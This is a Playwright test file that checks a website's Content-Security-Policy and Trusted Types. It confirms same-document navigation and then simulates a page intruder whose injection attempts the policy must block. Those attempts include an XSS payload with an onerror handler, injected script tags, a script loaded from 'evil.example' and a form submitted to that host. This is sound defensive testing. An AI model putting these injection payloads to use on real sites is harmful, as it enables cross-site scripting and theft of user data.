import { paths } from '../app/routes.ts'
import { expect, started, test } from './test.ts'

// What the Content-Security-Policy refuses, and that the site needs none of it. The watch in
// test.ts fails a test whose page breaches the policy unasked.

test('every page opens by client-side navigation under the policy, at its top, without a call to a server', async ({
  page,
}) => {
  test.setTimeout(90_000)
  await page.goto('/')
  await started(page)
  await page.evaluate(() => document.documentElement.setAttribute('data-same-document', ''))
  const calls: string[] = []
  page.on('request', (request) => {
    const call = `${request.method()} ${new URL(request.url()).pathname}`
    if (!call.startsWith('GET /assets/')) calls.push(call)
  })
  for (const path of [...paths.slice(1), '/']) {
    await page.evaluate((href) => {
      scrollTo({ top: 600, behavior: 'instant' })
      const link = document.createElement('a')
      link.href = href
      document.body.append(link)
      link.click()
      link.remove()
    }, path)
    await expect(page).toHaveURL(path)
    await expect(page.locator('link[rel=canonical]')).not.toHaveCount(0)
    await expect(page.getByRole('heading', { level: 1 })).toBeFocused()
    await page.waitForFunction(() => scrollY === 0, undefined, { timeout: 5000 })
  }
  expect(calls).toEqual([])
  await expect(page.locator('html')).toHaveAttribute('data-same-document')
})

test.describe('an intruder in the page', () => {
  test.use({ expectedErrors: /Content Security Policy|TrustedHTML|Trusted|violates the following/ })

  test('cannot make a string into HTML, code or another policy', async ({ page }) => {
    await page.goto('/pricing')
    await started(page)
    const outcomes = await page.evaluate(() => {
      const attempt = (act: () => unknown) => {
        try {
          act()
          return 'done'
        } catch (error) {
          return (error as Error).name
        }
      }
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => object }
      }
      return [
        attempt(() => {
          document.body.innerHTML = '<img src=x onerror=alert(1)>'
        }),
        attempt(() => document.write('<script>alert(1)</script>')),
        attempt(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
        attempt(() => {
          document.createElement('script').src = 'https://evil.example/x.js'
        }),
        attempt(() => trustedTypes.createPolicy('mine', {})),
        attempt(() => trustedTypes.createPolicy('prose', {})), // a second of that name
      ]
    })
    expect(outcomes).toEqual(Array(6).fill('TypeError'))
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  })

  test('cannot run inline code, load from elsewhere, frame the page or send a form away', async ({
    page,
  }) => {
    await page.goto('/pricing')
    await started(page)
    await page.evaluate(() => {
      const blocked: string[] = []
      Object.assign(window, { blocked })
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        blocked.push(effectiveDirective),
      )
      const add = (name: string, attributes: Record<string, string>) => {
        const element = document.createElement(name)
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
        document.body.append(element)
        return element
      }
      add('img', { src: 'data:image/gif,x' })
      add('iframe', { src: '/' })
      add('link', { rel: 'stylesheet', href: 'data:text/css,x' })
      add('style', {}).append('body{color:red}')
      add('div', { style: 'color:red' })
      add('base', { href: '/elsewhere/' })
      fetch('data:text/plain,x').catch(() => undefined)
      ;(add('form', { action: 'https://evil.example/' }) as HTMLFormElement).submit()
    })
    const blocked = () => page.evaluate(() => (window as unknown as { blocked: string[] }).blocked)
    for (const directive of [
      ...['img-src', 'frame-src', 'style-src-elem', 'style-src-attr'],
      ...['base-uri', 'connect-src', 'form-action'],
    ]) {
      await expect.poll(blocked).toContain(directive)
    }
  })
})
